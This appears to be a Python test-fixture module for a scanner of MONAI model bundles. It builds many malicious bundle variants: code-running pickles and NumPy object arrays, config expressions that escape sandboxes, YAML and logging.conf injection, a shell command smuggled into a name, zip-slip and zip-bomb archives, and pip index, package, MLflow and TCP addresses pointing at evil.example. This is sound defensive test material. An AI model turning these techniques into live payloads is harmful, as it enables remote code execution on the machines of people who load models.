# Copyright 2026 Survival Map contributors
# SPDX-License-Identifier: Apache-2.0
"""Bundles that would do harm, each a change to a harmless one. `CANARY` stands for a file that would be there if any ran.

Where an attack is that of an advisory, `ADVISORIES` names it.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import torch

from . import zoo_bundles

CANARY = "/tmp/survival_map_canary"
Files = dict[str, bytes]
CONFIG = "configs/inference.json"


class Run:
    """A pickle of this runs a command as it is loaded."""

    def __reduce__(self):
        return os.system, (f"touch {CANARY}",)


def with_keys(file: str = CONFIG, **keys) -> Callable[[Files], None]:
    """The config with other values at some keys; ``_`` in front and ``__`` within are as they are."""

    def change(files: Files) -> None:
        files[file] = json.dumps(json.loads(files.get(file, b"{}")) | keys).encode()

    return change


def expression(text: str, **keys) -> Callable[[Files], None]:
    return with_keys(harm="$" + text, **keys)


def component(target: str, **keys) -> Callable[[Files], None]:
    return with_keys(harm={"_target_": target, **keys})


def imported(module: str, text: str) -> Callable[[Files], None]:
    return with_keys(imports=[f"${module}", "$import glob", "$import os"], harm="$" + text)


def added(name: str, data: bytes | str) -> Callable[[Files], None]:
    def change(files: Files) -> None:
        files[name] = data.encode() if isinstance(data, str) else data

    return change


def logging_conf(old: str, new: str) -> Callable[[Files], None]:
    return added("configs/logging.conf", zoo_bundles.LOGGING.replace(old, new))


def large_file(**keys) -> Callable[[Files], None]:
    entry = {"path": "models/x.pt", "url": "https://x.org/x.pt", "hash_val": "0" * 64, "hash_type": "sha256"} | keys
    return added("large_files.yml", json.dumps({"large_files": [entry]}))


def shape(text: str) -> Callable[[Files], None]:
    return added("configs/metadata.json", json.dumps(zoo_bundles.metadata([text, 1, 1])))


def torch_zip(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A state dict of torch with other members."""
    with zipfile.ZipFile(io.BytesIO(zoo_bundles.weights())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    return packed(members)


def torchscript(old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(zoo_bundles.weights(script=True))) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    assert any(old in data for name, data in members.items() if name.endswith(".py"))
    return packed({n: d.replace(old, new) if n.endswith(".py") else d for n, d in members.items()})


def packed(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def saved(content: object, **options) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def tar_of(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo("pickle")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def object_array() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([Run()], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def by_hidden_name() -> bytes:
    """A pickle in which STACK_GLOBAL takes its names from the memo, behind a harmless pair of texts."""

    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    names = text("posix") + b"q\x01" + text("system") + b"q\x02" + text("collections") + text("OrderedDict") + b"000"
    return b"\x80\x04" + names + b"h\x01h\x02\x93" + text(f"touch {CANARY}") + b"\x85R."


ATTACKS: dict[str, tuple[Callable[[Files], None], str, str]] = {
    # name: (what is changed, the file of the finding, its words)
    "expression calls os.system": (expression(f"os.system('touch {CANARY}')"), CONFIG, r"os\.system is not on the list"),
    "expression imports by name": (expression(f"__import__('os').system('touch {CANARY}')"), CONFIG, "__import__ is not"),
    "expression evaluates": (expression("eval('1')"), CONFIG, "eval is not on the list"),
    "expression compiles": (expression("exec(compile('1', 'x', 'exec'))"), CONFIG, "exec is not on the list"),
    "a module of a module": (expression(f"torch.hub.os.system('touch {CANARY}')"), CONFIG, r"torch\.hub\.os\.system"),
    "a function within MONAI": (expression("monai.utils.optional_import('os')[0].system('x')"), CONFIG, "optional_import"),
    "a command by MONAI": (expression("monai.utils.run_cmd(['touch', 'x'])"), CONFIG, "run_cmd is not on the list"),
    "subclasses of object": (expression("().__class__.__base__.__subclasses__()"), CONFIG, "takes .__subclasses__"),
    "globals of a function": (expression("(lambda: 0).__globals__"), CONFIG, "takes .__globals__"),
    "a frame": (expression("(x for x in [1]).gi_frame.f_back.f_globals"), CONFIG, "takes .f_globals"),
    "getattr": (expression("getattr(os, 'sys' + 'tem')('x')"), CONFIG, "getattr is not on the list"),
    "a file is written": (expression("open('/etc/cron.d/x', 'w').close()"), CONFIG, "opens a file, and not for reading"),
    "the mode is an expression": (expression("open('x', 'r'.replace('r', 'w'))"), CONFIG, "opens a file, and not for"),
    "harm within an argument of open": (expression("open(__import__('os').getcwd())"), CONFIG, "__import__ is not"),
    "harm within an argument of setattr": (
        expression("setattr(torch.backends.cudnn, os.system('x'), True)"),
        CONFIG,
        "calls setattr",
    ),
    "harm within a default": (expression("os.environ.get('RANK', os.system('x'))"), CONFIG, r"os\.system is not"),
    "a builtin that is bound elsewhere": (
        expression("[0 for eval in [1]] and eval('1')"),
        CONFIG,
        "gives eval another meaning",
    ),
    "the builtins, bound elsewhere": (
        expression("[0 for __builtins__ in [1]] and __builtins__['eval']('1')"),
        CONFIG,
        "gives __builtins__ another meaning",
    ),
    "a reader by the name of open": (
        imported("from monai.transforms import LoadImage as open", "open('os.system')"),
        CONFIG,
        "reader is 'os.system'",
    ),
    "an output folder elsewhere": (
        component("SaveImaged", keys="pred", output_dir="~/.config/autostart"),
        CONFIG,
        "within the bundle",
    ),
    "a text without end": (added("docs/x.txt", b"x" * (17 << 20)), "docs/x.txt", "larger than files of its kind"),
    "a path is written": (imported("from pathlib import Path", "Path('x').write_text('y')"), CONFIG, "takes .write_text"),
    "a file is renamed": (imported("import pathlib", "pathlib.Path('a').replace('b')"), CONFIG, "renames a file"),
    "subprocess is imported": (imported("import subprocess", "subprocess.run('x')"), CONFIG, "it imports subprocess"),
    "a hidden second statement": (with_keys(imports=["$import glob; import os"]), CONFIG, "imports glob, which is not"),
    "an alias of a harmless name": (imported("from os import system as first", "first('x')"), CONFIG, r"imports os\.system"),
    "an alias that shadows torch": (imported("import os as torch", "torch.system('x')"), CONFIG, r"os\.system is not"),
    "a module out of the list of imports": (with_keys(harm="$@imports#2.system('x')"), CONFIG, "holds imported modules"),
    "the list of imports as a whole": (with_keys(a="@imports", harm="$[m.x for m in @a]"), CONFIG, "holds imported modules"),
    "imports copied by a macro": (with_keys(a="%imports#2", harm="$@a.system('x')"), CONFIG, "holds imported modules"),
    "a module as an argument": (expression("(lambda m: m.path)(os)"), CONFIG, "the module os itself"),
    "a name gets another meaning": (expression("[torch.x for torch in [1]]"), CONFIG, "gives torch another meaning"),
    "numpy writes a file": (expression("np.savetxt('/etc/x', [1])"), CONFIG, r"numpy\.savetxt is not on the list"),
    "numpy runs a string": (expression("np.testing.rundocs('x.py')"), CONFIG, r"numpy\.testing\.rundocs is not"),
    "native code is loaded": (expression("torch.ops.load_library('x.so')"), CONFIG, "load_library is not on the list"),
    "code from the network": (expression("torch.hub.load('x/y', 'z')"), CONFIG, r"torch\.hub\.load is not"),
    "the environment is read": (expression("os.environ['AWS_SECRET_ACCESS_KEY']"), CONFIG, "reads the environment"),
    "a reference within a text": (expression("'@or + os.system(1) + '"), CONFIG, "double underscore"),
    "an assignment in passing": (expression("(x := 1)"), CONFIG, "has a NamedExpr"),
    "nested too deep": (expression("(" * 3000 + ")" * 3000), CONFIG, "no expression that can be read"),
    "component is os.system": (component("os.system", command=f"touch {CANARY}"), CONFIG, "os.system is called"),
    "component is a builtin": (component("eval", source="1"), CONFIG, "eval is called"),
    "component by its short name": (component("download_url", url="x", filepath="y"), CONFIG, "download_url is called"),
    "component of our own that writes": (
        component("bundle.files.write_text", path="~/.bashrc", text="x"),
        CONFIG,
        "is called",
    ),
    "component in an override": (
        with_keys("configs/late.json", **{"network_def#_target_": "os.system"}),
        "configs/late.json",
        "os.system is called",
    ),
    "component is an expression": (component("$os.system", command="x"), CONFIG, r"os\.system is not on the list"),
    "a debugger": (component("UNet", _mode_="debug"), CONFIG, "_mode_ is debug"),
    "a reader by its path": (component("LoadImaged", keys="image", reader="os.system"), CONFIG, "reader is os.system"),
    "a reader by reference": (
        with_keys(r="os.system", harm={"_target_": "LoadImage", "reader": "@r"}),
        CONFIG,
        "reader is @r",
    ),
    "a reader by its place": (expression("monai.transforms.LoadImage('os.system')('x')"), CONFIG, "reader is 'os.system'"),
    "a partial reader": (
        imported("import functools", "functools.partial(monai.transforms.LoadImage, 'os.system')()"),
        CONFIG,
        "reader is",
    ),
    "a reader by an expression": (component("LoadImage", reader="$'os.' + 'system'"), CONFIG, "reader is"),
    "a module as a component": (
        with_keys(m={"_target_": "torch.hub"}, harm="$@m.list('x/y')"),
        CONFIG,
        "torch.hub is called",
    ),
    "a reader by its place, later": (
        with_keys(load={"_target_": "LoadImage", "_mode_": "callable"}, harm="$@load('os.system')"),
        CONFIG,
        "handed on, so that its reader",
    ),
    "a merger by its path": (
        component("monai.inferers.PatchInferer", merger_cls="os.system"),
        CONFIG,
        "merger_cls is os.system",
    ),
    "the command line of a compiler": (
        component("monai.networks.layers.gmm.GaussianMixtureModel", mixture_size="1; touch x"),
        CONFIG,
        "is called",
    ),
    "a group of processes elsewhere": (
        expression("torch.distributed.init_process_group('gloo', init_method='tcp://evil.example:1')"),
        CONFIG,
        "address in the network",
    ),
    "pandas, which evaluates texts": (
        imported("import pandas", "pandas.read_csv('x').query('a.b')"),
        CONFIG,
        "it imports pandas, which is not on the list",
    ),
    "a value evaluates a text": (expression("@dataset.eval('x')"), CONFIG, "by .eval"),
    "arguments by stars": (expression("torch.load('x', **{'weights_only': False})"), CONFIG, r"by \*\*"),
    "torch.load is handed on": (expression("list(map(torch.load, ['x']))"), CONFIG, "is handed on"),
    "torch.load as a component": (component("torch.load", f="x"), CONFIG, "unpickles whatever"),
    "a config outside of the bundle": (with_keys(harm="%/etc/x.json#a"), CONFIG, "a config outside"),
    "the record of a training as a config": (with_keys(harm="%models/settings.json#training"), CONFIG, "what is a record"),
    "a key twice": (added(CONFIG, '{"a": "$os.system(1)", "a": 1}'), CONFIG, "a key appears twice"),
    "a key twice in YAML": (added("configs/x.yaml", "a: 1\na: 2\n"), "configs/x.yaml", "a key appears twice"),
    "an object in YAML": (
        added("configs/x.yaml", "a: !!python/object/apply:os.system [x]\n"),
        "configs/x.yaml",
        "can't be read",
    ),
    "a bomb of YAML aliases": (
        added(
            "configs/x.yaml",
            "a: &a [1,1,1,1,1,1,1,1,1]\n"
            + "".join(f"{b}: &{b} [{','.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi")),
        ),
        "configs/x.yaml",
        "more than 200000 values",
    ),
    "YAML that holds itself": (added("configs/x.yaml", "a: &a [*a]\n"), "configs/x.yaml", "can't be read"),
    "JSON nested too deep": (added("configs/x.json", '{"a": ' * 900 + "1" + "}" * 900), "configs/x.json", "can't be read"),
    "a tracking server": (component("MLFlowHandler", tracking_uri="http://evil.example"), CONFIG, "address in the network"),
    "logging: arguments": (
        logging_conf("(sys.stdout,)", f"(os.system('touch {CANARY}'),)"),
        "configs/logging.conf",
        "is evaluated",
    ),
    "logging: a class": (logging_conf("class=StreamHandler", "class=os.system"), "configs/logging.conf", "is called"),
    "logging: by defaults": (
        logging_conf("[loggers]", "[DEFAULT]\nargs=(__import__('os'),)\n\n[loggers]"),
        "configs/logging.conf",
        "is evaluated",
    ),
    "logging: a socket": (
        logging_conf("class=StreamHandler", "class=handlers.SocketHandler"),
        "configs/logging.conf",
        "is called",
    ),
    "logging: a file elsewhere": (
        logging_conf(
            "class=StreamHandler\nlevel=INFO\nformatter=fullFormatter\nargs=(sys.stdout,)",
            "class=FileHandler\nargs=('/etc/x',)",
        ),
        "configs/logging.conf",
        "outside of the bundle",
    ),
    "shape: an attribute of a number": (shape("(1).__class__.__bases__[0]"), "configs/metadata.json", "is evaluated"),
    "shape: in a config": (with_keys(_meta_={"x": {"spatial_shape": ["print(n)"]}}), CONFIG, "is evaluated"),
    "shape: a call": (shape("print(n)"), "configs/metadata.json", "is evaluated"),
    "shape: a power without end": (shape("9**9**9"), "configs/metadata.json", "is evaluated"),
    "a schema from elsewhere": (
        with_keys("configs/metadata.json", schema="https://evil.example/s.json"),
        "configs/metadata.json",
        "downloaded by verify",
    ),
    "download: out of the bundle": (large_file(path="../../.bashrc"), "large_files.yml", "leads out of the bundle"),
    "download: over a config": (large_file(path=CONFIG), "large_files.yml", "would replace a file"),
    "download: without a hash": (large_file(hash_val=""), "large_files.yml", "has no hash"),
    "download: without encryption": (large_file(url="http://x.org/x.pt"), "large_files.yml", "expected https"),
    "download: other arguments": (large_file(proxy="http://evil.example"), "large_files.yml", "handed to the download"),
    "weights: a pickle that runs": (added("models/model.pt", saved(Run())), "models/model.pt", r"calls (posix|nt)\.system"),
    "weights: the legacy format": (
        added("models/model.pt", saved(Run(), _use_new_zipfile_serialization=False)),
        "models/model.pt",
        r"\.system",
    ),
    "weights: a bare pickle": (added("models/model.pt", pickle.dumps(Run())), "models/model.pt", r"\.system"),
    "weights: a pickle of protocol 0": (added("models/model.pt", pickle.dumps(Run(), 0)), "models/model.pt", r"\.system"),
    "weights: names from the memo": (added("models/model.pt", by_hidden_name()), "models/model.pt", r"posix\.system"),
    "weights: a pickle that breaks off": (
        added("models/model.pt", pickle.dumps(Run())[:-1]),
        "models/model.pt",
        r"\.system",
    ),
    "weights: a registered number": (added("models/model.pt", b"\x80\x02\x82\x01."), "models/model.pt", "registered number"),
    "weights: a tar": (added("models/model.pt", tar_of(pickle.dumps(Run()))), "models/model.pt", "a tar archive"),
    "weights: one pickle more in the zip": (
        added("models/model.pt", torch_zip(lambda m: m.update({"archive/x.pkl": b"."}))),
        "models/model.pt",
        "which torch.save doesn't write",
    ),
    "weights: data.pkl in the zip": (
        added("models/model.pt", torch_zip(lambda m: m.update({"archive/data.pkl": pickle.dumps(Run())}))),
        "models/model.pt",
        r"\.system",
    ),
    "weights: eval of a name": (added("models/x.ckpt", pickle.dumps(eval)), "models/x.ckpt", "calls builtins.eval"),
    "TorchScript reads a file": (
        added("models/model.ts", torchscript(b"torch.relu(", b"torch.from_file(")),
        "models/model.ts",
        r"torch\.from_file",
    ),
    "TorchScript calls an operator": (
        added("models/model.ts", torchscript(b"torch.relu(", b"ops.evil.run(")),
        "models/model.ts",
        "evil::run",
    ),
    "an algorithm of Auto3DSeg": (
        added("models/algo_object.pkl", pickle.dumps({"algo_bytes": Run()})),
        "models/algo_object.pkl",
        r"\.system",
    ),
    "an algorithm of Auto3DSeg in JSON": (
        added("models/algo_object.json", '{"_target_": "os.system", "command": "x"}'),
        "models/algo_object.json",
        "os.system is called",
    ),
    "data with a pickle": (
        added("models/item_pickle.bin", pickle.dumps({"a_tr": Run()})),
        "models/item_pickle.bin",
        r"\.system",
    ),
    "an array of objects": (added("models/prior.npy", object_array()), "models/prior.npy", "array of Python objects"),
    "an array of objects in a zip": (
        added("models/prior.npz", packed({"a.npy": object_array()})),
        "models/prior.npz",
        "array of Python objects",
    ),
    "a reader that unpickles": (
        component("LoadImaged", keys="image", reader="NumpyReader", allow_pickle=True),
        CONFIG,
        "allow_pickle is True",
    ),
    "nnU-Net: a command in a name": (
        added("configs/nnunet.yaml", 'dataset_name_or_id: "1; touch x"\n'),
        "configs/nnunet.yaml",
        "expected a plain name",
    ),
    "nnU-Net: a pickle's place": (
        added("models/inference_information.json", '{"postprocessing_file": "/tmp/x.pkl"}'),
        "models/inference_information.json",
        "it is unpickled",
    ),
    "nnU-Net as a component": (component("monai.apps.nnunet.nnUNetV2Runner", input_config="x"), CONFIG, "is called"),
    "weights from the network": (
        component("SEResNet50", spatial_dims=2, in_channels=3, pretrained=True),
        CONFIG,
        "pretrained is True",
    ),
    "a config for federated learning": (
        with_keys("configs/train.json", initialize=["$os.system('x')"]),
        "configs/train.json",
        "os.system is not",
    ),
    "a DICOM file": (added("docs/scan.dcm", b"\0" * 128 + b"DICM"), "docs/scan.dcm", "doesn't know"),
    "code of its own": (added("scripts/losses.py", "import os"), "scripts/losses.py", "code of the bundle's own"),
    "code that differs from ours": (
        added("bundle/run/start.py", "import os"),
        "bundle/run/start.py",
        "differs from this copy",
    ),
    "code at the top": (added("torch.py", "import os"), "torch.py", "code of the bundle's own"),
    "compiled code": (
        added("bundle/__pycache__/files.cpython-311.pyc", b"x"),
        "bundle/__pycache__/files.cpython-311.pyc",
        "doesn't know",
    ),
    "what pip builds with": (added("pyproject.toml", "[build-system]\nbackend-path = ['.']\n"), "pyproject.toml", "differs"),
    "a native library": (added("models/x.so", b"\x7fELF"), "models/x.so", "doesn't know"),
    "a hidden file": (added(".git/hooks/post-checkout", "x"), ".git/hooks/post-checkout", "hidden"),
    "packages from elsewhere": (
        added("requirements.txt", "--index-url https://evil.example\nmonai\n"),
        "requirements.txt",
        "not a package",
    ),
    "a package from an address": (
        added("requirements.txt", "monai @ https://evil.example/monai.whl\n"),
        "requirements.txt",
        "not a package",
    ),
    "a scan that is a bomb": (added("docs/x.nii.gz", b"\x1f\x8b broken"), "docs/x.nii.gz", "can't be unpacked"),
    "a file is opened, its mode behind a star": (expression("open(*['x', 'w'])"), CONFIG, "opens a file, and not for"),
    "a target that is put together": (component("$'os.' + 'system'", command="x"), CONFIG, "is called, which is not"),
    "a target by reference": (with_keys(nm="os.system", harm={"_target_": "$@nm", "command": "x"}), CONFIG, "is called"),
    "a module of a value": (expression("@dl.context.reducer.io"), CONFIG, "takes .io of a value"),
    "a file by an object": (expression("@dl.x.FileIO('x', 'w')"), CONFIG, "takes .FileIO"),
    "an address that is put together": (expression("'http' + '://x.org'"), CONFIG, "an address in the network"),
    "attributes by a text": (expression("('{0._' + '_class_' + '_}').format(1)"), CONFIG, "by .format"),
    "a print into a file": (expression("print('x', file=@a)"), CONFIG, "prints into a file"),
    "a file is written by an object": (expression("@f.write(b'x')"), CONFIG, "writes by .write"),
    "the same, handed on": (expression("list(map(@f.write, [b'x']))"), CONFIG, "takes .write"),
    "the same, in part": (imported("import functools", "functools.partial(@f.write, b'x')()"), CONFIG, "takes .write"),
    "a file is copied": (imported("import pathlib", "pathlib.Path('a').copy('/x')"), CONFIG, "copies a file"),
    "a file is made by a name": (expression("monai.data.create_file_basename('x', 'y', '/z')"), CONFIG, "is not on the"),
    "a compiler": (component("SupervisedTrainer", compile_kwargs={"options": {"cpp.cxx": "x"}}), CONFIG, "a compiler"),
    "a compiler in an expression": (expression("@network_def.compile(options={})"), CONFIG, "may name a compiler"),
    "classes of a class": (expression("torch.nn.Module.mro()"), CONFIG, "mro is not on the list"),
    "a network that downloads by default": (component("EfficientNetBN", model_name="b0"), CONFIG, "downloads weights"),
    "the same in an expression": (expression("monai.networks.nets.MILModel(2)"), CONFIG, "pretrained is True"),
    "weights from an address": (component("HoVerNet", pretrained_url="$@a"), CONFIG, "pretrained_url is"),
    "a metric that downloads": (component("ignite.metrics.InceptionScore"), CONFIG, "is called, which is not"),
    "a log file elsewhere": (component("LogfileHandler", output_dir=".", filename="/x/.bashrc"), CONFIG, "within the bund"),
    "weights elsewhere": (component("CheckpointSaver", save_dir="m", file_prefix="../x"), CONFIG, "within the bundle"),
    "results elsewhere by a reference": (
        with_keys(a="@b", b="/etc", harm={"_target_": "SaveImaged", "keys": "pred", "output_dir": "$@a"}),
        CONFIG,
        "within the bundle",
    ),
    "results elsewhere by an expression": (
        component("SaveImaged", keys="pred", output_dir="$'/' + 'etc'"),
        CONFIG,
        "within the bundle",
    ),
    "logging: a value within a value": (
        logging_conf("args=(sys.stdout,)", f"x=' if __import__('os').system('touch {CANARY}') else '\nargs=('%(x)s',)"),
        "configs/logging.conf",
        "put together from other values",
    ),
    "logging: defaults of a formatter": (
        logging_conf("format=", "defaults=__import__('os').system('x')\nformat="),
        "configs/logging.conf",
        "is more than values",
    ),
    "a config of other programs": (added("tox.ini", "[testenv]\ncommands = touch x\n"), "tox.ini", "not a part of"),
    "an array of objects by another name": (
        added("models/p.npy", object_array().replace(b"'|O'", b"'O8'")),
        "models/p.npy",
        "an array of Python objects",
    ),
    "download: over a file, by another name": (large_file(path="./models/MODEL.pt"), "large_files.yml", "would replace"),
    "metadata that are none": (added("configs/metadata.json", "[]"), "configs/metadata.json", "it is no metadata"),
    "metadata: packages that are none": (
        with_keys("configs/metadata.json", required_packages_version={"": "1"}),
        "configs/metadata.json",
        "no name of a package",
    ),
    "a manifest that is none": (added("manifest.json", '{"format": 1, "files": [[1, "x"]]}'), "manifest.json", "no table"),
    "a text that is none": (added("docs/x.md", b"\xff\xfe\x00"), "docs/x.md", "no text in UTF-8"),
}

# Published advisories of MONAI on what a bundle can carry, and the attack of each. Ids in one row are of one matter.
ADVISORIES = {
    "CVE-2025-58756, GHSA-6vm5-6jv9-rjpj: torch.load unpickles": "weights: the legacy format",
    "CVE-2025-58757, GHSA-p8cm-mm2v-gwjm: data whose keys say pickle": "data with a pickle",
    "CVE-2026-100846, GHSA-89gg-p5r5-q6r4, GHSA-wg9g-w2j2-8pgr: algo_from_pickle": "an algorithm of Auto3DSeg",
    "GHSA-2wx3-8x3w-r8qv: a target of Auto3DSeg in JSON": "an algorithm of Auto3DSeg in JSON",
    "GHSA-rghg-q7wp-9767: NumpyReader": "an array of objects",
    "GHSA-873f-pvrv-4x83: a config runs as a bundle is loaded": "component is os.system",
    "GHSA-x6pr-233j-x5cw: a config from the server of federated learning": "a config for federated learning",
    "GHSA-wvpx-5qmp-46g3: logging.conf": "logging: arguments",
    "GHSA-h89g-r5pc-wxfm, PYSEC-2026-4017: shapes in metadata": "shape: an attribute of a number",
    "GHSA-x4pc-gj5h-3pq7: large_files": "download: out of the bundle",
    "GHSA-hhh4-h52m-fqh6: hashes not checked": "download: without a hash",
    "CVE-2026-100844, PYSEC-2026-4019, GHSA-qxq5-qhx6-94qw: nnU-Net, a command in a name": "nnU-Net: a command in a name",
    "CVE-2026-109361, GHSA-8f32-8649-rv87: nnU-Net, the place of a pickle": "nnU-Net: a pickle's place",
    "CVE-2026-109360, GHSA-vm9c-7j6g-c7mm: weights over plain http": "weights from the network",
    "CVE-2026-48705, GHSA-6hp3-vr39-rqw8: crafted DICOM": "a DICOM file",
    "CVE-2025-58755, GHSA-x6ww-pf9m-m73m: zip slip": "zip: out of the folder",
    "CVE-2026-21851, GHSA-9rg3-9pvr-6p27: zip slip in a download from NGC": "zip: an absolute name",
}


def _entry(archive: zipfile.ZipFile, name: str, data: bytes = b"x", mode: int = stat.S_IFREG | 0o644, **options) -> None:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    archive.writestr(info, data, **options)


def _zip(files: Files, more: Callable[[zipfile.ZipFile], None] = lambda archive: None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        more(archive)
    return buffer.getvalue()


def _overlapping(files: Files) -> bytes:
    """A file of the list that starts within another: as in bombs that use the same bytes again and again."""
    data = bytearray(_zip(files, lambda archive: _entry(archive, "docs/a.txt", b"a" * 200)))
    at = data.rfind(b"PK\x01\x02")
    start = struct.unpack_from("<I", data, at + 42)[0]
    struct.pack_into("<I", data, at + 42, start - 10)
    return bytes(data)


def _other_name_inside(files: Files) -> bytes:
    data = _zip(files, lambda archive: _entry(archive, "docs/good.txt"))
    return data.replace(b"docs/good.txt", b"docs/evil.pth", 1)


def _flagged(files: Files) -> bytes:
    """Weights that Python's zipfile takes for encrypted and torch loads."""
    data = bytearray(saved(Run()))
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return _zip(files | {"models/model.pt": bytes(data)})


def _second_name(files: Files) -> bytes:
    """Info-ZIP's field of a name in Unicode: some programs take it in place of the name."""
    info, other = zipfile.ZipInfo("docs/good.txt"), b"../../evil.txt"
    info.extra = struct.pack("<HHBL", 0x7075, 5 + len(other), 1, zlib.crc32(b"docs/good.txt")) + other
    return _zip(files, lambda archive: archive.writestr(info, b"x"))


ZIPS: dict[str, tuple[Callable[[Files], bytes], str]] = {
    "zip: out of the folder": (lambda f: _zip(f, lambda z: _entry(z, "../../evil.txt")), "leads out of the bundle"),
    "zip: an absolute name": (lambda f: _zip(f, lambda z: _entry(z, "/etc/evil.txt")), "leads out of the bundle"),
    "zip: a backslash": (lambda f: _zip(f, lambda z: _entry(z, "..\\evil.txt")), "leads out of the bundle"),
    "zip: a drive": (lambda f: _zip(f, lambda z: _entry(z, "C:evil.txt")), "leads out of the bundle"),
    "zip: a link": (lambda f: _zip(f, lambda z: _entry(z, "docs/l.txt", b"/etc/passwd", stat.S_IFLNK | 0o777)), "a link"),
    "zip: a device": (lambda f: _zip(f, lambda z: _entry(z, "docs/d.txt", b"", stat.S_IFCHR | 0o666)), "a special file"),
    "zip: a bomb": (lambda f: _zip(f, lambda z: _entry(z, "docs/b.txt", bytes(8 << 20), compress_type=8)), "a zip bomb"),
    "zip: files that overlap": (_overlapping, "overlaps another|header"),
    "zip: a name twice": (lambda f: _zip(f, lambda z: _entry(z, "models/MODEL.pt")), "two files have this name"),
    "zip: two names for a file": (_other_name_inside, "two headers for it differ"),
    "zip: a second name": (_second_name, "has a second name"),
    "zip: something in front": (lambda f: b"#!/bin/sh\n" + _zip(f), "in front of the zip"),
    "zip: something behind": (lambda f: _zip(f) + b"x", "behind the end"),
    "zip: an invisible character": (lambda f: _zip(f, lambda z: _entry(z, "docs/a\u202etxt.md")), "can't be seen"),
    "zip: weights with flipped bits": (_flagged, "encrypted"),
}
